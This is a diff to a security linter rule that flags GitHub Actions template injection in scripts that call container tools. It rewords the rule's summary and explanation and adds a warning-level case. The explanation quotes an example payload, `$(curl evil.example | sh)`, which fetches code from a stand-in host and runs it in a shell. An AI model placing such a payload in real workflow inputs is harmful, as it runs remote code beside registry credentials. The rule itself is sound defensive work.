@@ -15,12 +15,12 @@ import { eventsWithUntrusted, privilegedEvents } from "../../src/knowledge/untru
 
 export default defineRule({
   id: "workflow-no-template-injection",
-  summary: "What strangers write is not a part of scripts that call container tools",
+  summary: "Scripts that call container tools contain no untrusted expressions",
   why:
-    "GitHub puts the value of an expression into the script before a shell reads it. A title such as `$(curl evil.example | sh)` " +
-    "then runs as a command, beside the credentials of the registry and with the images that the job builds. A variable in `env` " +
-    "is only a value to the shell. The finding is an error where the event runs with the secrets of the repository. Scripts that " +
-    "call no container tool are left to linters of workflows.",
+    "GitHub inserts the value of an expression into the script before a shell reads it. A title such as " +
+    "`$(curl evil.example | sh)` then runs as a command, beside the credentials of the registry and the images that the job builds. " +
+    "A variable in `env` is only a value to the shell. The finding is an error if the event runs with the secrets of the repository, " +
+    "and otherwise a warning. Scripts that call no container tool are left to linters of workflows.",
   topic: "workflows",
   category: "security",
   severity: "error",
